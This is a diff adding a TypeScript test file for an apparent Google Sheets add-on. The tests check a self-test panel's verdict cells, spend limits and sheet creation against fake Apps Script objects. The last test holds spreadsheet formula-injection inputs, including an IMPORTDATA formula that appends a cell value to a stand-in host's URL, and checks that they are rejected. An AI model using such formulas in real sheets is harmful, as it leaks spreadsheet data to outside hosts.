@@ -1,0 +1,85 @@
+import { insertSelfTest, makePractice } from '../../shared/panel';
+import type { Practice } from '../../shared/panel';
+import { BulkPanel } from '../fakes/apps-script/bulk-panel';
+import { SheetGrid } from '../fakes/apps-script/sheet-grid';
+import { setSpendPolicy } from '../fakes/apps-script/spend-policy';
+import type { SheetsWorld } from '../fakes/apps-script/world';
+import { readOthers } from '../fakes/self-test-grid';
+import { openWorld } from './open-world';
+
+const PRACTICE = makePractice('texts');
+const COUNT = PRACTICE.selfTest.sheet.rows.length - 3;
+const ALL = { total: `${COUNT} of ${COUNT} as expected` };
+
+let world: SheetsWorld;
+let panel: BulkPanel;
+
+beforeAll(async () => {
+  // Nothing is sent anywhere.
+  world = await openWorld('http://127.0.0.1:9');
+});
+
+afterAll(() => world.stop());
+
+beforeEach(() => {
+  world.state.sheets.splice(0, Infinity, new SheetGrid(7, 'Leads'));
+  world.state.documentCache.clear();
+  world.state.userProperties.owner.clear();
+  panel = new BulkPanel(world);
+});
+
+async function insert(practice: Practice = PRACTICE): Promise<SheetGrid> {
+  const name = await insertSelfTest(panel.host, practice);
+  world.calculate();
+  return world.state.sheets.find((sheet) => sheet.name === name)!;
+}
+
+it('without a key each verdict is green, in a new sheet each time', async () => {
+  const first = await insert();
+  expect([first.name, world.state.selection.sheetId === first.id, readOthers(first, world.state)]).toEqual([
+    'Trace self-test',
+    true,
+    ALL,
+  ]);
+  expect(first.layout.formats.get('4:2')).toBe('[Color10]"✓ As expected"* ;[Red]"✗ Differs"* ;"Waiting"* ');
+  first.put({ row: 1, column: 1 }, 'My own title');
+  const second = await insert();
+  expect([second.name, first.value({ row: 1, column: 1 }), readOthers(second, world.state)]).toEqual([
+    'Trace self-test 2',
+    'My own title',
+    ALL,
+  ]);
+});
+
+it('with a key, a limit of 0 and a service that does not answer, each is green too', async () => {
+  world.callRpc('setKey', ['trace_demo', 'anotherAccount', 'works']);
+  setSpendPolicy(world, { mode: 'daily', limit: 0 });
+  expect(readOthers(await insert(), world.state)).toEqual(ALL);
+  setSpendPolicy(world, { mode: 'freely' });
+});
+
+it('a wrong answer turns its own verdict red, and no other', async () => {
+  const text = JSON.stringify(PRACTICE.companies).replace('"employee_count":320', '"employee_count":321');
+  const companies = JSON.parse(text) as Practice['companies'];
+  expect(readOthers(await insert({ ...PRACTICE, companies }), world.state)).toEqual({
+    'A number': 'differs',
+    total: `${COUNT - 1} of ${COUNT} as expected`,
+  });
+});
+
+it('nothing is red while Google calculates', async () => {
+  await insertSelfTest(panel.host, PRACTICE);
+  expect(new Set(Object.values(readOthers(world.state.sheets[1]!, world.state)))).toEqual(
+    new Set(['waits', `0 of ${COUNT} as expected, ${COUNT} waiting`]),
+  );
+});
+
+it.each(['=IMPORTDATA("https://a.example/?"&A1)', '=HYPERLINK("https://a.example/")', '=MINE(A1)', '+A1', '@A1'])(
+  'no sheet is added with %s',
+  async (formula) => {
+    const rows = [[formula]];
+    const sent = { title: 'x', rows, chart: null, isOnce: false, looks: null };
+    expect(world.callRpc('bulkSummary', [sent])).toMatchObject({ ok: false });
+    expect(world.state.sheets).toHaveLength(1);
+  },
+);
